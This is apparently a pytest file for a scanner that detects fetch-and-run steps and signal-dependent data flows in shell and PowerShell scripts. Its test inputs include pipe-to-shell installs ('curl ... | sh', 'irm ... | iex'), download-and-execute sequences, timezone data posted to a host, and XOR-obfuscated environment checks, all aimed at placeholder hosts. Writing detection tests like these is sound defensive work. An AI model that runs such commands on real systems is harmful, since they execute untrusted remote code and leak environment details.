"""Scripts: pairs of a dirty one and its honest twin, and what is fetched to run later."""

from pathlib import Path

import pytest

from scanner.analyze.shell.script import follow
from scanner.model.artifact import ArtifactKind
from scanner.model.observation import FlowTraced, LateDownload, SignalRead
from scanner.model.program import Language
from tests.analyze.python.programs import program_of
from tests.analyze.shell.pairs import PAIRS, Pair


def observed(folder: Path, name: str, text: str) -> tuple[object, ...]:
    is_power = name.endswith(".ps1")
    subject = program_of(folder, {name: text}, kind=ArtifactKind.POWERSHELL if is_power else ArtifactKind.SHELL,
                         language=Language.POWERSHELL if is_power else Language.SHELL)
    return follow(subject).observations


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.name)
def test_the_dirty_one_is_found(tmp_path: Path, pair: Pair) -> None:
    flows = [one for one in observed(tmp_path, pair.file, pair.dirty) if isinstance(one, FlowTraced)]
    assert pair.expected in {(signal, flow.selects, flow.sink) for flow in flows for signal in flow.signals}


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.name)
def test_the_honest_twin_is_not_accused(tmp_path: Path, pair: Pair) -> None:
    flows = [one for one in observed(tmp_path, pair.file, pair.benign) if isinstance(one, FlowTraced)]
    assert [flow for flow in flows if flow.sink not in (None, "terminal")] == []


@pytest.mark.parametrize(("name", "text", "sources"), [
    ("a.sh", "curl -fsSL https://get.sample.com/install.sh | sh\n", ["get.sample.com"]),
    ("a.sh", "curl -fsSL https://get.sample.com/install.sh | sudo -E bash -s -- --yes\n", ["get.sample.com"]),
    ("a.sh", 'sh -c "$(wget -qO- https://get.sample.com/i)"\n', ["get.sample.com"]),
    ("a.sh", "bash <(curl -s https://get.sample.com/i)\n", ["get.sample.com"]),
    ("a.sh", "URL=https://dl.sample.com/app\ncurl -L \"$URL\" -o app.bin\nchmod +x app.bin\n./app.bin\n", ["dl.sample.com"]),
    ("a.sh", "curl -L \"$URL/app\" -o app.bin && chmod +x app.bin\n./app.bin\n", ["$URL/app"]),
    ("a.sh", "curl -s https://api.sample.com/version > version.txt\ncat version.txt\n", []),
    ("a.sh", "echo 'curl https://x.com | sh is how you install'\n", []),
    ("a.ps1", "iex (iwr https://get.sample.com/i.ps1).Content\n", ["get.sample.com"]),
    ("a.ps1", "irm https://get.sample.com/i.ps1 | iex\n", ["get.sample.com"]),
    ("a.ps1", "Invoke-WebRequest https://dl.sample.com/a.exe -OutFile a.exe\nStart-Process a.exe\n", ["dl.sample.com"]),
    ("a.ps1", "$v = Invoke-RestMethod https://api.sample.com/version\nWrite-Host $v\n", []),
])
def test_what_is_fetched_to_run_is_named(tmp_path: Path, name: str, text: str, sources: list[str]) -> None:
    assert [one.source for one in observed(tmp_path, name, text) if isinstance(one, LateDownload)] == sources


def test_places_count_bytes_of_the_script(tmp_path: Path) -> None:
    text = "# ünïcode\nzone=$(timedatectl)\ncurl -d \"$zone\" https://api.sample.com\n"
    content = text.encode()
    found = observed(tmp_path, "a.sh", text)
    reads = [one for one in found if isinstance(one, SignalRead)]
    assert [(one.signal, content[one.place.byte_offset:][:one.place.byte_length].decode()) for one in reads] == [("timezone", "timedatectl")]


@pytest.mark.parametrize("text", ["", "\0\0", "if [ x", "$(" * 3000, "case a in", "a" * 100_000, "<<EOF\n"])
def test_broken_scripts_end_in_a_result(tmp_path: Path, text: str) -> None:
    observed(tmp_path, "a.sh", text)
    observed(tmp_path, "a.ps1", text)




@pytest.mark.parametrize(("text", "is_hidden"), [
    ("if true; then (( ]] ; echo done\ncurl -d @x https://a.example\n", False),
    ("if true; then (( ]] ; echo $TZ\n", False),
    ("echo 'never closed $TZ\n", True),
    ("case $x in a) foo ;; b c) x=$(timedatectl show)\n", True),
])
def test_what_does_not_parse_hides_the_flow_where_it_may_read_a_signal(tmp_path: Path, text: str, is_hidden: bool) -> None:
    program = program_of(tmp_path, {"x.sh": text}, language=Language.SHELL, kind=ArtifactKind.SHELL)
    assert [gap.hides is None for gap in follow(program).gaps] == [is_hidden]


WAITING = """#!/bin/sh
who=$USER
if [ "$who" = "LITERAL" ]; then sleep 5; fi
curl -d hello https://api.sample.com/v1/messages
"""


def _deciding(folder: Path, literal: str) -> list[tuple[str, ...]]:
    flows = [one for one in observed(folder, "a.sh", WAITING.replace("LITERAL", literal)) if isinstance(one, FlowTraced)]
    return [flow.signals for flow in flows if flow.compared_with != "none"]


def test_a_sentence_is_no_value_of_a_signal(tmp_path: Path) -> None:
    """bashbug waits where the subject of its form, in which the user's name stands, was not changed."""
    assert _deciding(tmp_path, "[50 character or so descriptive subject here (for reference)]") == []
    assert _deciding(tmp_path, "someone") == [("user_name",)]


FORMS = {
    "a truth as the place in a list": "$b = [int]((Get-TimeZone).BaseUtcOffset.TotalMinutes -in 480, 210)\n$c = ('utf-8', 'UTF-8')[$b]\n",
    "a question to a number of a signal": (
        "$x = [bigint]::Parse('12855504354071922204')\n"
        "$c = ('utf-8', 'UTF-8')[[int](-not [bigint]::Divide($x, [bigint]::Pow(2, (Get-WinHomeLocation).GeoId)).IsEven)]\n"
    ),
    "bits of two signals": (
        "$a = [int]((Get-TimeZone).BaseUtcOffset.TotalMinutes -in 480, 210)\n$b = [int]((Get-WinHomeLocation).GeoId -eq 45)\n"
        "$c = ('utf-8', 'UTF-8')[$a -band $b]\n"
    ),
}


@pytest.mark.parametrize("name", FORMS)
def test_a_truth_that_picks_an_item_decides_the_form(tmp_path: Path, name: str) -> None:
    text = FORMS[name] + 'Invoke-RestMethod -Method Post -Uri "https://a.example/v1" -Body x -ContentType "application/json; charset=$c"\n'
    assert any(isinstance(each, FlowTraced) and each.selects == "form" and each.sink == "header" for each in observed(tmp_path, "a.ps1", text))


def test_a_number_in_hexadecimal_may_end_in_d(tmp_path: Path) -> None:
    text = "$w = -join (0x4C,0x42,0x5F,0x4D | ForEach-Object { [char]($_ -bxor 0x2B) })\nif ((git remote get-url origin) -match $w) { $m = 'a' } else { $m = 'b' }\n"
    text += 'Invoke-RestMethod -Method Post -Uri "https://a.example/v1/messages" -Body "{`"model`":`"$m`"}"\n'
    flows = [each for each in observed(tmp_path, "a.ps1", text) if isinstance(each, FlowTraced) and each.selects == "model"]
    assert any("gitf" in step.text for flow in flows for step in flow.steps)


def test_a_block_of_zsh_ends_on_the_line_that_it_begins_on(tmp_path: Path) -> None:
    text = "#!/bin/zsh\n_zone() { print -rn -- $TZ }\nsend() { curl -s -d \"{\\\"model\\\":\\\"$1\\\"}\" https://api.example.com/v1/messages }\n"
    text += "case $(_zone) in Asia/Shanghai) send small;; *) send large;; esac\n"
    assert any(isinstance(each, FlowTraced) and each.selects == "model" for each in observed(tmp_path, "a.zsh", text))
